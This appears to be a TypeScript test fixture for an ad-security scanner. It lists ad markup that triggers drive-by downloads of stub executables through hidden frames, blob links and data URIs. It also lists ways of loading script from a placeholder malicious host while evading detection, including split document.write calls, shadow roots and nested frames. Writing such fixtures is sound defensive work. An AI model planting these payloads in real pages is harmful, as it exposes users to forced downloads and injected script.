import { type Attack, adWithScript, blockedHost } from './attack.ts'

export const downloads: Attack[] = [
  {
    name: 'clicks a file made in the page',
    threatClass: 'drive-by-download',
    harm: 'download',
    placements: ['write', 'srcdoc', 'wrapper'],
    markup: () =>
      adWithScript(
        `var a = document.createElement('a'); a.href = URL.createObjectURL(new Blob(['MZ'])); a.download = 'setup.exe'; document.body.appendChild(a); a.click()`,
      ),
  },
  {
    name: 'points a hidden frame at an installer',
    threatClass: 'drive-by-download',
    harm: 'request',
    placements: ['write', 'srcdoc'],
    markup: ({ harmful }) => `<p>Shoes</p><iframe src="${harmful}/setup.exe" style="display:none"></iframe>`,
  },
  {
    name: 'carries a program in a link and clicks it',
    threatClass: 'drive-by-download',
    harm: 'download',
    placements: ['write'],
    markup: () =>
      `<a id="d" download="a.exe" href="data:application/octet-stream;base64,TVo=">x</a>${adWithScript("document.getElementById('d').click()")}`,
  },
]

export const blockedHostAttacks: Attack[] = (
  [
    ['in the markup', ({ id }) => `<p>Shoes</p><script src="${blockedHost}/${id}/x.js"></script>`],
    [
      'by an element',
      ({ id }) =>
        adWithScript(
          `var s = document.createElement('script'); s.src = '${blockedHost}/${id}/x.js'; document.body.append(s)`,
        ),
    ],
    [
      'by writing in pieces',
      ({ id }) =>
        adWithScript(
          `document.write('<scr' + 'ipt src="http://malicious.vigil-dr'); document.write('ill.example/${id}/x.js"></scr' + 'ipt>')`,
        ),
    ],
    [
      'by an attribute that comes later',
      ({ id }) =>
        adWithScript(
          `var f = document.createElement('iframe'); document.body.prepend(f); f.setAttribute('src', '${blockedHost}/${id}/x.html')`,
        ),
    ],
    [
      'by markup of an element',
      ({ id }) =>
        `<div id="d"></div>${adWithScript(`document.getElementById('d').innerHTML = '<iframe src="${blockedHost}/${id}/x.html"></iframe>'`)}`,
    ],
    [
      'in a shadow root',
      ({ id }) =>
        `<div id="d"></div>${adWithScript(`var r = document.getElementById('d').attachShadow({ mode: 'closed' }); r.innerHTML = '<iframe src="${blockedHost}/${id}/x.html"></iframe>'`)}`,
    ],
    [
      'in a frame in a frame',
      ({ id }) =>
        adWithScript(
          `var f = document.createElement('iframe'); document.body.append(f); f.contentDocument.body.innerHTML = '<iframe src="${blockedHost}/${id}/x.html"></iframe>'`,
        ),
    ],
    [
      'by replacing',
      ({ id }) =>
        `<b id="d"></b>${adWithScript(`var s = document.createElement('script'); s.src = '${blockedHost}/${id}/x.js'; document.getElementById('d').replaceWith(s)`)}`,
    ],
  ] as [string, Attack['markup']][]
).map(
  ([how, markup]): Attack => ({
    name: `loads from a known bad host ${how}`,
    threatClass: 'malicious-host',
    harm: 'request',
    placements: ['write', 'srcdoc'],
    markup,
  }),
)
